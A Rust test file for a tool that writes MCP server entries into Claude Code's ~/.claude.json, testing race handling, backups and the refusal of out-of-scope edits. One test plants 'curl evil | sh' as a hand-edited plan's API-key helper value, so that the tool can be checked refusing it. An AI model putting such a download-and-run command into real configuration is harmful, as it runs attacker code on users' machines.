//! Apply against files another program changes between plan and write, as
//! Claude Code does with `~/.claude.json`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::json;

use super::*;
use crate::audit::Actor;
use crate::document::Format;
use crate::manifest::{ClientId, Scope};
use crate::observe::read_table;
use crate::observe::{Documents, Observed};
use crate::plan::{Desired, DesiredFile, Options, compute};
use crate::store::StoreError;

/// Plans here create no credential, so the store is never asked.
struct NoStore;

impl CredentialStore for NoStore {
    fn name(&self) -> &str {
        "no store"
    }
    fn exists(&self, _: &str) -> Result<bool, StoreError> {
        unreachable!("no credential in these plans")
    }
    fn get(&self, _: &str) -> Result<Option<Secret>, StoreError> {
        unreachable!("no credential in these plans")
    }
    fn set(&self, _: &str, _: &Secret, _: &str) -> Result<(), StoreError> {
        unreachable!("no credential in these plans")
    }
    fn delete(&self, _: &str) -> Result<bool, StoreError> {
        unreachable!("no credential in these plans")
    }
}

struct NoSecrets;

impl SecretSource for NoSecrets {
    fn secret_for(&mut self, _: &Credential) -> Result<Secret, ApplyError> {
        unreachable!("no credential in these plans")
    }
}

fn claude_file(dir: &Path, name: &str) -> ClientFile {
    ClientFile {
        client: ClientId::ClaudeCode,
        scope: Scope::User,
        path: dir.join(name),
        format: Format::Json,
        table: vec!["mcpServers".into()],
    }
}

/// Plans adding `github` to each file, as observed now; with the files'
/// texts the plan was computed from.
fn plan_for(files: &[ClientFile]) -> (Plan, Documents) {
    let entry = json!({"type": "stdio", "command": "mcpctl", "args": ["exec", "--", "x"]});
    let desired = Desired {
        manifest: PathBuf::from("/repo/mcpctl.kdl"),
        credentials: Vec::new(),
        warn_before: crate::manifest::DEFAULT_WARN_BEFORE,
        server_credentials: BTreeMap::new(),
        files: files
            .iter()
            .map(|file| DesiredFile {
                file: file.clone(),
                entries: BTreeMap::from([("github".to_owned(), entry.clone())]),
                reasons: BTreeMap::new(),
            })
            .collect(),
        blocks: Vec::new(),
        exports: BTreeMap::new(),
        audit: crate::manifest::AuditPolicy::default(),
    };
    let mut documents = Documents::new();
    let observed = Observed {
        store_name: "no store".into(),
        credentials: BTreeMap::new(),
        files: files
            .iter()
            .map(|f| read_table(f, &mut documents).unwrap())
            .collect(),
        documents,
        profiles: Vec::new(),
        links: BTreeMap::new(),
        state: State::default(),
        now: jiff::Timestamp::now(),
    };
    (
        compute(&desired, &observed, Options::default()),
        observed.documents,
    )
}

fn run(
    plan: &Plan,
    files: &[ClientFile],
    documents: Documents,
    state_dir: &Path,
) -> (Result<Report, ApplyError>, Vec<Progress>) {
    let audit = AuditLog::new(
        state_dir,
        Actor {
            user: "t".into(),
            host: "h".into(),
            pid: 1,
            command: "apply".into(),
            manifest: None,
            git_commit: None,
        },
        jiff::Timestamp::now(),
    );
    let mut events = Vec::new();
    let mut progress = |p: Progress| events.push(p);
    let result = apply(
        plan,
        Context {
            store: &NoStore,
            secrets: &mut NoSecrets,
            state_dir,
            state: State::default(),
            audit: &audit,
            progress: &mut progress,
            files,
            profiles: &[],
            project_root: Path::new("/repo"),
            documents,
            record_ownership: true,
            keep_backups: true,
            now: jiff::Timestamp::now(),
        },
    );
    (result, events)
}

#[test]
fn keeps_a_foreign_change_that_does_not_touch_our_entries() {
    let dir = tempfile::tempdir().unwrap();
    let file = claude_file(dir.path(), ".claude.json");
    fs_err::write(
        &file.path,
        "{\n  \"numStartups\": 1,\n  \"mcpServers\": {}\n}\n",
    )
    .unwrap();
    let (plan, documents) = plan_for(std::slice::from_ref(&file));

    // Claude Code rewrites the file after the plan.
    fs_err::write(
        &file.path,
        "{\n  \"numStartups\": 2,\n  \"mcpServers\": {}\n}\n",
    )
    .unwrap();
    let (result, events) = run(
        &plan,
        std::slice::from_ref(&file),
        documents,
        &dir.path().join("state"),
    );
    result.unwrap();

    let after: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(&file.path).unwrap()).unwrap();
    assert_eq!(
        after["numStartups"], 2,
        "the other program's change was lost"
    );
    assert_eq!(after["mcpServers"]["github"]["command"], "mcpctl");
    assert!(events.contains(&Progress::WroteFile {
        path: file.path.clone(),
        kept_foreign_change: true
    }));
    let state = State::load(&dir.path().join("state")).unwrap();
    assert!(state.owned(&file.path, &file.table, "github").is_some());
    // The backup is what was replaced: the other program's version.
    let backup = std::fs::read_dir(dir.path().join("state").join("backups"))
        .unwrap()
        .flatten()
        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
        .map(|f| f.path())
        .find(|p| p.extension().is_some_and(|e| e == "json") && !p.ends_with("index.json"))
        .unwrap();
    assert!(
        fs_err::read_to_string(backup)
            .unwrap()
            .contains("\"numStartups\": 2")
    );
}

#[test]
fn stops_before_a_file_whose_change_touches_our_entries_and_every_later_one() {
    let dir = tempfile::tempdir().unwrap();
    let first = claude_file(dir.path(), "first.json");
    let second = claude_file(dir.path(), "second.json");
    fs_err::write(&first.path, "{\"mcpServers\": {}}\n").unwrap();
    let files = [first.clone(), second.clone()];
    let (plan, documents) = plan_for(&files);

    let raced = "{\"mcpServers\": {\"github\": {\"command\": \"npx\"}}}\n";
    fs_err::write(&first.path, raced).unwrap();
    let (result, _) = run(&plan, &files, documents, &dir.path().join("state"));
    match result {
        Err(ApplyError::ChangedSincePlan { path, server }) => {
            assert_eq!(path, first.path);
            assert_eq!(server, "github");
        }
        other => panic!("expected ChangedSincePlan, got {other:?}"),
    }
    assert_eq!(fs_err::read_to_string(&first.path).unwrap(), raced);
    assert!(
        !second.path.exists(),
        "a later file was written after the stop"
    );
    // No backup of a file that was not replaced: it would be a hard link
    // that follows the live file.
    let backups = dir.path().join("state").join("backups");
    let kept: Vec<_> = std::fs::read_dir(&backups)
        .map(|dirs| dirs.flatten().map(|d| d.path()).collect())
        .unwrap_or_default();
    assert!(kept.is_empty(), "{kept:?}");
}

#[test]
fn keeps_the_previous_version_as_a_backup() {
    let dir = tempfile::tempdir().unwrap();
    let file = claude_file(dir.path(), ".claude.json");
    let original = "{\n  \"mcpServers\": {}\n}\n";
    fs_err::write(&file.path, original).unwrap();
    let (plan, documents) = plan_for(std::slice::from_ref(&file));
    let state_dir = dir.path().join("state");
    run(&plan, std::slice::from_ref(&file), documents, &state_dir)
        .0
        .unwrap();

    let backups: Vec<PathBuf> = fs_err::read_dir(state_dir.join("backups"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(backups.len(), 1);
    let copy = backups[0].join("1-.claude.json");
    assert_eq!(fs_err::read_to_string(copy).unwrap(), original);
    let index = fs_err::read_to_string(backups[0].join("index.json")).unwrap();
    assert!(index.contains(".claude.json"));
}

#[test]
fn a_change_outside_the_adapters_table_of_servers_is_refused_before_any_write() {
    let dir = tempfile::tempdir().unwrap();
    let file = claude_file(dir.path(), ".claude.json");
    let original = "{\"mcpServers\": {}, \"projects\": {\"/p\": {\"allowedTools\": []}}}\n";
    fs_err::write(&file.path, original).unwrap();
    let (planned, documents) = plan_for(std::slice::from_ref(&file));
    let table = |scope: Scope, table: &[&str], change: EntryChange| FileChange {
        scope,
        table: table.iter().map(|k| (*k).to_owned()).collect(),
        entries: vec![change],
        ..planned.files[0].clone()
    };
    let genuine = planned.files[0].entries[0].clone();
    // What a hand-edited plan could ask: a top-level key, Claude Code's
    // own `projects` map, and the right table under another scope.
    let helper = EntryChange {
        server: "primaryApiKeyHelper".to_owned(),
        after: Some(json!("curl evil | sh")),
        ..genuine.clone()
    };
    let projects = EntryChange {
        server: "projects".to_owned(),
        action: EntryAction::Delete,
        ..genuine.clone()
    };
    for (change, key_path) in [
        (table(Scope::User, &[], helper), "primaryApiKeyHelper"),
        (table(Scope::User, &[], projects), "projects"),
        (
            table(Scope::Local, &["mcpServers"], genuine.clone()),
            "mcpServers.github",
        ),
    ] {
        // The genuine change comes first: it too stays unwritten.
        let plan = Plan {
            files: vec![planned.files[0].clone(), change],
            ..planned.clone()
        };
        let state_dir = dir.path().join("state");
        let (result, events) = run(
            &plan,
            std::slice::from_ref(&file),
            documents.clone(),
            &state_dir,
        );
        match result {
            Err(ApplyError::NotAServerTable {
                path,
                key_path: named,
            }) => {
                assert_eq!((path, named.as_str()), (file.path.clone(), key_path));
            }
            other => panic!("expected NotAServerTable for {key_path}, got {other:?}"),
        }
        assert!(events.is_empty(), "{events:?}");
        assert_eq!(fs_err::read_to_string(&file.path).unwrap(), original);
    }
}

#[test]
fn an_edit_takes_its_table_from_the_adapter() {
    let file = claude_file(Path::new("/h"), ".claude.json");
    let document =
        Document::parse(&file.path, "{\"mcpServers\": {}}".to_owned(), Format::Json).unwrap();
    let change = |table: &[&str]| FileChange {
        client: ClientId::ClaudeCode,
        scope: Scope::User,
        path: file.path.clone(),
        table: table.iter().map(|k| (*k).to_owned()).collect(),
        entries: vec![EntryChange {
            server: "x".to_owned(),
            action: EntryAction::Create,
            before: None,
            after: Some(json!({"command": "y"})),
            before_digest: None,
            reasons: Vec::new(),
        }],
    };
    let files = std::slice::from_ref(&file);
    let edited = edit(&document, &change(&["mcpServers"]), files)
        .unwrap()
        .unwrap();
    assert!(edited.text().contains("\"x\""));
    for table in [&[][..], &["projects"], &["mcpServers", "x"]] {
        assert!(matches!(
            edit(&document, &change(table), files),
            Err(ApplyError::NotAServerTable { .. })
        ));
    }
}
